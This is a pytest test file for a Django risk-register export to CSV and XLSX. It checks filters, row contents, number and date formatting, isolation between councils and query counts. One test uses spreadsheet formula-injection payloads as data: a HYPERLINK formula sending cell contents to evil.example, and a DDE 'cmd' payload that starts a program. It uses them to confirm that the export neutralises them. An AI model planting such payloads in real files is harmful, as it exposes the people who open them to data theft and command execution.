"""All risks as CSV and XLSX (issue 16): the risks the risks page lists, as filtered there, in
its order; numbers as numbers and the review date as a date; no formula anyone typed; the
same queries however many risks."""

from datetime import date, datetime, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from tests.factories import CouncilFactory, PartnershipFactory, RiskFactory, UserFactory
from tests.spreadsheets import body, csv_rows, filename, xlsx_rows, xlsx_sheet

pytestmark = pytest.mark.django_db

FORMATS = {"csv": csv_rows, "xlsx": xlsx_rows}


def export(client, fmt: str, query: str = "") -> list[dict]:
    return FORMATS[fmt](client.get(f"/risks/export.{fmt}?{query}"))


def on_screen(client, query: str) -> list[str]:
    """The risks the risks page lists for `query`, page after page."""
    descriptions, number = [], 1
    while True:
        page = client.get(f"/risks/?{query}&page={number}").context["page"]
        descriptions += [risk.description for risk in page.object_list]
        if not page.has_next():
            return descriptions
        number += 1


@pytest.fixture
def many_risks(officer, lead):
    """40 risks over five partnerships, every score, some closed, some overdue, two owners."""
    today = timezone.localdate()
    partnerships = [PartnershipFactory(name=f"{'Coastal' if n % 2 else 'Inland'} partnership {n}",
                                       lead_officer=officer) for n in range(5)]
    for n in range(40):
        RiskFactory(partnership=partnerships[n % 5], standard="", description=f"Risk {n:02d}",
                    likelihood=1 + n % 5, impact=1 + (n * 3) % 5, owner=lead if n % 3 else officer,
                    status="closed" if n % 7 == 0 else "open",
                    review_date=today + timedelta(days=(n * 11) % 40 - 10))


@pytest.mark.parametrize("query", ["", "show=all", "show=closed", "show=overdue", "band=high", "band=medium&show=all",
                                   "band=low", "owner={lead}", "partnership=coastal&band=high", "show=all&page=2"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_it_holds_exactly_the_risks_on_screen_in_their_order(member_client, many_risks, lead, settings, query, fmt):
    settings.REGISTER_PAGE_SIZE = 10  # several pages on screen
    settings.EXPORT_CHUNK_SIZE = 7  # several chunks in the file
    query = query.format(lead=lead.pk)
    shown = on_screen(member_client, query.replace("&page=2", ""))
    assert shown
    assert [row["Risk"] for row in export(member_client, fmt, query)] == shown


@pytest.fixture
def risk(lead):
    partnership = PartnershipFactory(name="Coastal Flood Partnership", lead_officer=lead)
    return RiskFactory(partnership=partnership, standard="", description="The sea wall fails", likelihood=5,
                       impact=4, mitigation="Inspect it after every storm.", review_date=date(2020, 3, 31))


def test_a_row_says_what_the_risk_is_how_it_scores_who_owns_it_and_when_it_is_reviewed(member_client, risk):
    response = member_client.get("/risks/export.csv")
    assert filename(response) == f"partnership-risks-{timezone.localdate().isoformat()}.csv"
    assert csv_rows(response) == [{
        "Partnership reference": risk.partnership.reference, "Partnership": "Coastal Flood Partnership",
        "Risk": "The sea wall fails", "Likelihood": "5", "Likelihood in words": "Almost certain",
        "Impact": "4", "Impact in words": "Major", "Score": "20", "Band": "High",
        "Mitigation": "Inspect it after every storm.", "Owner": "Lena Lead", "Next review": "2020-03-31",
        "Status": "Open", "Review overdue": "Yes",
    }]


def test_the_spreadsheet_holds_scores_as_numbers_and_the_review_as_a_date(member_client, risk):
    response = member_client.get("/risks/export.xlsx")
    assert filename(response) == f"partnership-risks-{timezone.localdate().isoformat()}.xlsx"
    [row] = xlsx_rows(response)
    assert (row["Likelihood"], row["Impact"], row["Score"]) == (5, 4, 20)
    assert row["Next review"] == datetime(2020, 3, 31)
    sheet = xlsx_sheet(member_client.get("/risks/export.xlsx"))
    headings = [cell.value for cell in sheet[1]]
    review = sheet.cell(row=2, column=headings.index("Next review") + 1)
    assert review.is_date and review.number_format == "yyyy-mm-dd"
    assert sheet.title == "Risks" and sheet["A1"].font.bold and sheet.freeze_panes == "A2"


def test_a_closed_risk_is_never_overdue(member_client, risk):
    risk.status = "closed"
    risk.save()
    [row] = export(member_client, "csv", "show=closed")
    assert (row["Status"], row["Review overdue"]) == ("Closed", "No")


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(member_client, lead, first, fmt):
    typed = f"{first}HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
    RiskFactory(partnership=PartnershipFactory(name=f"{first}SUM(A1:A9)", lead_officer=lead), standard="",
                description=typed, mitigation=f"{first}cmd|' /C calc'!A0")
    [row] = export(member_client, fmt)
    for heading, text in (("Risk", typed), ("Mitigation", f"{first}cmd|' /C calc'!A0"),
                          ("Partnership", f"{first}SUM(A1:A9)")):
        assert row[heading].startswith("'")
        # In an XLSX a carriage return reads back as a line break (XML), still after the quote.
        assert row[heading][1:].replace("\n", "\r") == text.replace("\n", "\r")
    if fmt == "xlsx":
        sheet = xlsx_sheet(member_client.get("/risks/export.xlsx"))
        assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_another_councils_risks_are_never_exported(client, lead_member, lead, fmt):
    RiskFactory(partnership=PartnershipFactory(name="Our Partnership", lead_officer=lead))
    dorset = CouncilFactory(name="Dorset Council")
    owner = UserFactory(role="Officer", councils=[dorset])
    RiskFactory(partnership=PartnershipFactory(name="Dorset Coast Forum", councils=[dorset], lead_officer=owner))
    client.force_login(lead_member)
    assert [row["Partnership"] for row in export(client, fmt, "show=all")] == ["Our Partnership"]
    assert export(client, fmt, "show=all&partnership=dorset") == []
    # Asking for their owner is a filter the reader cannot use: back to the page, not their risks.
    assert client.get(f"/risks/export.{fmt}?owner={owner.pk}").status_code == 302


@pytest.mark.parametrize("query", ["band=extreme", "owner=abc", "show=everything", "owner=99999999999999999999999"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_bad_filters_send_the_reader_back_to_the_risks_to_correct_them(member_client, risk, query, fmt):
    response = member_client.get(f"/risks/export.{fmt}?{query}&page=2")
    assert response.status_code == 302 and response.url == f"/risks/?{query}"
    page = member_client.get(response.url).content.decode()
    assert "Correct the filters before downloading the risks." in page and "There is a problem" in page


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_takes_the_same_queries_however_many_risks(member_client, lead, settings, fmt):
    settings.EXPORT_CHUNK_SIZE = 5

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            body(member_client.get(f"/risks/export.{fmt}?show=all"))
        return len(captured.captured_queries)

    def add(count):
        for _ in range(count):
            RiskFactory(partnership=PartnershipFactory(lead_officer=UserFactory(role="Officer")), owner=lead)

    add(3)
    three = queries()
    add(30)
    assert queries() == three  # seven chunks: each risk's partnership and owner come in its own query
    assert len(export(member_client, fmt, "show=all")) == 33
